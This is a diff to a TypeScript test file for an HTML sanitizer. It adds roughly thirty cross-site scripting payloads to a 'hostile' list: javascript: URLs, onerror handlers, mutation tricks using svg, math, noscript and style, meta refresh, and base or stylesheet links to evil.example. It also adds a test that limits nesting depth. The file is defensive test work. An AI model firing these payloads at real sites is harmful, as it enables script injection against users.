@@ -1,16 +1,15 @@
 import fc from 'fast-check'
 import { expect, it } from 'vitest'
-import { costly } from '../../../../../tests/support/data/hostile-text.ts'
 import { beginning, isTypeset, markdown } from './markdown.ts'
-import { safeHtml } from './safe-html.ts'
+import { depthMax, safeHtml } from './safe-html.ts'
 
 /** Every `<` of the result must begin one of these. */
 const allowed =
-  /^<\/?(?:p|br|hr|h[1-6]|div|span|a|img|em|strong|pre|code|table|t[rdh]|thead|tbody|ul|ol|li|b|i)(?: [a-z]+="[^"<>]*")*>/
+  /^<\/?(?:p|br|hr|h[1-6]|div|span|a|img|em|strong|pre|code|table|t[rdh]|thead|tbody|ul|ol|li|b|i)(?: [a-z]+="[^"<>]*")*(?: \/)?>/
 
 const isHarmless = (html: string) =>
   [...html.matchAll(/</g)].every(({ index }) => allowed.test(html.slice(index))) &&
-  !/ on[a-z]+="|="\s*(?:javascript:|vbscript:|data:text)/i.test(html.replace(/>[^<]*</g, '><'))
+  !/ on[a-z]+="|="\s*(?:javascript:|vbscript:|data:text)/i.test((html.match(/<[^>]*>/g) ?? []).join(''))
 
 const hostile = [
   '<script>alert(1)</script>',
@@ -39,6 +38,38 @@ const hostile = [
   '<div style="position:fixed;inset:0">x</div>',
   '<p id="root" name="answers" class="arriving">x</p>',
   '<form action="//evil.example"><input type=password></form>',
+  // of the kinds that the library's own tests hold
+  '<<img src="javascript:alert(1)"/>img src="javascript:alert(1)"/>',
+  '<img src=x onerror=alert(1) ',
+  '<img src="javascript:alert(1)" srcset="javascript:alert(1) 2x">',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
+  '<img src="da\tta:text/html,<script>alert(1)</script>">',
+  '<a href="java\0script:alert(1)">x</a>',
+  '<a href="java<!-- -->script:alert(1)">x</a>',
+  '<a href="\u0001JavaScript:alert(1)" target=_top ping=//evil.example>x</a>',
+  '<a href="vbscript:alert(1)">x</a>',
+  '<p "onmouseover=alert(1) title=x>x</p>',
+  '<p title="&quot; onmouseover=&quot;alert(1)">x</p>',
+  '<p __proto__=x constructor=x onclick=alert(1)>x</p>',
+  '<b <script>alert(1)</script>0',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
+  '<select><option><style><img src=x onerror=alert(1)></style></option></select>',
+  '<xmp><script>alert(1)</script></xmp>',
+  '<xmp>&lt;/xmp&gt;<img src=x onerror=alert(1)></xmp>',
+  '<textarea></textarea/><img src=x onerror=alert(1)>',
+  '<textarea>&lt;/textarea&gt;<script>alert(1)</script>',
+  '<title></title/><img src=x onerror=alert(1)>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<p><noscript></p><style></noscript><img src=x onerror=alert(1)></style>',
+  '<iframe><iframe></iframe><img src=x onerror=alert(1)>',
+  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><animate attributeName=href values="#;javascript:alert(1)"/></svg>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href=//evil.example>',
+  '<link rel=stylesheet href=//evil.example/x.css><style>@import "//evil.example/x.css"</style>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><video onerror=alert(1) src=x>',
 ]
 
 it.each(hostile)('SE-01 nothing of %s runs, styles or leads away', async (text) => {
@@ -75,7 +106,7 @@ it('SE-01 whatever is written: tags of the list only, and all that was opened is
 it('keeps what authors write', () => {
   expect(safeHtml('<p class="language-cpp">a &lt; b &amp; c</p>')).toBe('<p class="language-cpp">a &lt; b &amp; c</p>')
   expect(safeHtml('<img src="/api/file/view?fileId=1" width=3>')).toBe(
-    '<img src="/api/file/view?fileId=1" width="3" loading="lazy" referrerpolicy="no-referrer">',
+    '<img src="/api/file/view?fileId=1" width="3" loading="lazy" referrerpolicy="no-referrer" />',
   )
   expect(safeHtml('a < b > c')).toBe('a &lt; b &gt; c')
   expect(safeHtml('<b>x')).toBe('<b>x</b>')
@@ -125,7 +156,29 @@ it('describes a text on one line, without its marks', () => {
   expect(beginning('字'.repeat(500))).toHaveLength(161)
 })
 
-it('SE-03 takes time in proportion to the text', () => {
-  const tags = ['<p ', '<a href="', '<script>', '<script></script>', '&#', '</p>', '<div>', '<div></p>']
-  expect(costly(350_000, safeHtml, tags)).toEqual([])
+const deepest = (html: string) => {
+  let [depth, most] = [0, 0]
+  for (const [tag] of html.matchAll(/<\/?(?!(?:br|hr|img)\b)[a-z][^>]*>/g)) {
+    depth += tag.startsWith('</') ? -1 : 1
+    most = Math.max(most, depth)
+  }
+  return most
+}
+
+it('SE-03 has so few elements open at a time that its work is in proportion to the text', () => {
+  const nested = (depth: number) => safeHtml('<div>'.repeat(depth))
+  expect(deepest(nested(depthMax))).toBe(depthMax)
+  expect(nested(depthMax + 1)).toBe(`<pre>${'&lt;div&gt;'.repeat(depthMax + 1)}</pre>`)
+  const pieces = [
+    '<div>',
+    '<div></p>',
+    '<b><p>',
+    '<table><tr>',
+    '<tr><td>',
+    '<a><b>',
+    '<svg>',
+    '<p><noscript></p>',
+    '<iframe>',
+  ]
+  for (const piece of pieces) expect(deepest(safeHtml(piece.repeat(20_000))), piece).toBeLessThanOrEqual(depthMax)
 })
